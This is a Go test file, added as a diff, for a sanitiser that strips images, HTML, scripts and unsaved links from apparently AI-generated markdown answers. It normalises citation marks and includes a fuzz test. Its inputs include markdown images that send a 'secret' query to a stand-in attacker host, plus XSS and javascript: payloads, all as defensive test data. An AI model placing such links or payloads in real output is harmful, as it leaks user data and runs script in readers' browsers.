@@ -1,0 +1,97 @@
+package answer
+
+import (
+	"regexp"
+	"strings"
+	"testing"
+	"unicode/utf8"
+)
+
+// saved is the one address that the passages hold.
+const savedAddress = "https://saved.example/page?a=1"
+
+func newCleaner() *cleaner {
+	return &cleaner{matches: 5, known: func(address string) bool { return strings.HasPrefix(savedAddress, address) }}
+}
+
+func TestClean(t *testing.T) {
+	for _, c := range []struct{ title, in, out string }{
+		{"plain text stays", "Thirty days, *at most* [1].", "Thirty days, *at most* [1]."},
+		{"a picture goes, its words stay", "See ![the plan](https://evil.example/?q=secret) here.", "See the plan here."},
+		{"a picture within a link", "[![x](https://evil.example/a)](https://evil.example/b)", "x"},
+		{"several signs before a picture", "!!![x](https://evil.example)", "x"},
+		{"a picture by a definition", "![x][p]\n\n[p]: https://evil.example/?q=1", "[x][p]\n\n[p]\\: `https://evil.example/?q=1`"},
+		{"a picture that would be made by what goes", "![9][x](https://evil.example) !<b></b>[x](https://evil.example)", "x !  x"},
+		{"HTML goes", "a <img src=x onerror=alert(1)> b<script>alert(1)</script>", "a   b alert(1)"},
+		{"HTML over two lines", "a <img\nsrc=x>", "a &lt;img\nsrc=x>"},
+		{"a tag within a tag", "<scr<b>ipt>x", "&lt;scr ipt>x"},
+		{"a comparison is no tag", "1 < 2 and 3 <4", "1 < 2 and 3 <4"},
+		{"a comment", "a <!-- b --> c", "a   c"},
+		{"javascript", "[click](javascript:alert(1)) [x](data:text/html;base64,AAAA) <javascript:x>", "click x"},
+		{"a link to what was saved stays", "[the page](" + savedAddress + ") and " + savedAddress + ".", "[the page](" + savedAddress + ") and " + savedAddress + "."},
+		{"a link that carries something away", "[the page](" + savedAddress + "&secret=1)", "the page"},
+		{"an address that nobody saved is code", "See https://evil.example/?q=1, or www.evil.example.", "See `https://evil.example/?q=1`, or `www.evil.example`."},
+		{"brackets behind a number are words", "Thirty days [1](see page 4).", "Thirty days [1] (see page 4)."},
+		{"a number that is a link", "Thirty days [1](https://evil.example).", "Thirty days [1]."},
+		{"a number that becomes a link by what goes", "[1](https://evil.example)(https://evil.example)", "[1] (`https://evil.example`)"},
+		{"an unfinished link", "[a](https://evil.example", "[a] (`https://evil.example`"},
+		{"code stays", "Use `<b> ![x](y) [99]` here.", "Use `<b> ![x](y) [99]` here."},
+		{"fenced code stays", "```html\n<img src=x> [99]\n```\nthen <b>", "```html\n<img src=x> [99]\n```\nthen"},
+		{"code below an item", "1. one\n   ```\n   <b>\n   ```\n2. two <b>", "1. one\n   ```\n   <b>\n   ```\n2. two"},
+		{"a fence that is none", "a\n        ```\n<b>x", "a\n        \n x"},
+		{"a backtick that opens nothing", "a ` <b> c", "a   c"},
+		{"a backtick that is escaped", "\\`<img>` x", "`<img>` x"},
+		{"a span that ends in another cell", "| `a | b` <img> |\n|---|---|", "| a | b   |\n|---|---|"},
+		{"control characters and turns of direction", "a\x1ab\u202ec\x00d", "a bc d"},
+		{"bytes that are no UTF-8", "a\xffb", "a\ufffdb"},
+		{"tables, headings and lists stay", "## One\n\n- a\n- [x] b\n\n| a | b |\n| --- | :-: |\n| 1 | 2 |", "## One\n\n- a\n- [x] b\n\n| a | b |\n| --- | :-: |\n| 1 | 2 |"},
+	} {
+		t.Run(c.title, func(t *testing.T) {
+			if got := newCleaner().text(c.in); got != c.out {
+				t.Errorf("%q\n got %q\nwant %q", c.in, got, c.out)
+			}
+		})
+	}
+}
+
+func TestMarks(t *testing.T) {
+	for in, want := range map[string]string{
+		"a [1, 2].": "a [1][2].", "a [1][2].": "a [1][2].", "a [1], [2].": "a [1], [2].", "a【1】.": "a[1].", "a 【2†source】.": "a [2].", "a[^1].": "a[1].",
+		"a [1-3].": "a [1][2][3].", "a [1–2].": "a [1][2].", "a [1;3].": "a [1][3].", "a [passage 2].": "a [2].", "a [Sources 1 and 3].": "a [1][3].",
+		"a [#4].": "a [4].", "a [6].": "a.", "a [1, 9].": "a [1].", "a [0].": "a.", "in [2024] it": "in [2024] it", "a [word] b": "a [word] b", "- [ ] todo": "- [ ] todo",
+		"a [1-999].": "a [1][2][3][4][5].", "a [].": "a [].", "a [5] b": "a [5] b",
+	} {
+		if got := marks(in, 5); got != want {
+			t.Errorf("%q: got %q, want %q", in, got, want)
+		}
+	}
+}
+
+// dangerous finds what no reader of markdown may be given.
+var dangerous = regexp.MustCompile(`!\[|<[A-Za-z!?/]|\]\((?:[^h]|h[^t])|\]:`)
+
+func FuzzClean(f *testing.F) {
+	f.Add("a ![x](http://evil) <img src=x> [1, 2] `code` [a](javascript:x)\n```\n<b>\n```\n[p]: http://x")
+	f.Add("| `a | b` <i> |\n|--|--|\n\\`<b>` \\\\`x`")
+	f.Add("1. a\n   ~~~~\n   <b>\n~~~\n<b>![9][x](y)")
+	f.Fuzz(func(t *testing.T, s string) {
+		clean := newCleaner().text(s)
+		if !utf8.ValidString(clean) {
+			t.Fatalf("%q became invalid: %q", s, clean)
+		}
+		var b blocks
+		for line := range strings.SplitSeq(clean, "\n") {
+			if b.code(line) {
+				continue
+			}
+			for _, r := range runs(line, b.row(line)) {
+				if bad := dangerous.FindString(r.text); !r.code && bad != "" {
+					t.Fatalf("%q became %q with %q", s, clean, bad)
+				}
+			}
+		}
+		if again := newCleaner().text(clean); len(again) > len(clean)+strings.Count(clean, "<")*4+strings.Count(clean, "]")*2+strings.Count(clean, "://")*2+strings.Count(strings.ToLower(clean), "www.")*2 {
+			t.Fatalf("%q grows: %q", clean, again)
+		}
+	})
+}
